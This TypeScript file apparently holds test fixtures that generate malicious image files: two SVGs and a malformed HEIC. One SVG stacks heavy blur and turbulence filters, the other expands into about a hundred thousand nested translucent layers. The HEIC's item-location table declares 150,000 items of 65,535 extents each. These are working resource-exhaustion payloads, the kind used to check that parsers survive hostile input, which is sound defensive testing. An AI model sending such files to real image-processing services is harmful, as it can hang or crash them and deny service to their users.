/* Files that were made to do harm. */

const head = '<svg xmlns="http://www.w3.org/2000/svg" width="2000" height="2000">';

/** Fourteen kilobytes that take ten minutes and more: a blur of the whole surface and noise, two hundred times. */
export const filteredSvg = `${head}<filter id="f" x="0" y="0" width="1" height="1"><feGaussianBlur stdDeviation="500"/><feTurbulence numOctaves="1000" baseFrequency="0.01"/></filter>${Array.from(
  { length: 200 },
  (_, n) => `<rect x="${n}" y="${n}" width="2000" height="2000" filter="url(#f)"/>`,
).join('')}</svg>`;

/** The same without any filter: a hundred thousand see-through surfaces, each inside others. */
export const endlessSvg = `${head}<defs><g id="a0" opacity=".5"><rect width="2000" height="2000"/></g>${[1, 2, 3, 4, 5]
  .map((level) => `<g id="a${level}" opacity=".5">${Array.from({ length: 10 }, (_, n) => `<use href="#a${level - 1}" x="${n}"/>`).join('')}</g>`)
  .join('')}</defs><use href="#a5"/></svg>`;

function box(type: string, ...parts: readonly Uint8Array[]): Buffer {
  const body = Buffer.concat(parts);
  const start = Buffer.alloc(8);
  start.writeUInt32BE(8 + body.length);
  start.write(type, 4);
  return Buffer.concat([start, body]);
}

/** A phone photo whose table of places lists 150,000 items of 65,535 pieces without a size each. */
export function endlessHeic(): Buffer {
  const items = 150_000;
  const table = Buffer.alloc(10 + items * 10);
  table.writeUInt8(2); // version: numbers of items take four bytes
  table.writeUInt32BE(items, 6);
  for (let n = 0; n < items; n++) {
    table.writeUInt32BE(2, 10 + n * 10);
    table.writeUInt16BE(0xffff, 18 + n * 10);
  }
  const entry = box('infe', Buffer.from([2, 0, 0, 0, 0, 1, 0, 0]), Buffer.from('Exif\0'));
  const names = box('iinf', Buffer.from([0, 0, 0, 0, 0, 1]), entry);
  return Buffer.concat([box('ftyp', Buffer.from('heic\0\0\0\0heicmif1')), box('meta', Buffer.alloc(4), names, box('iloc', table))]);
}
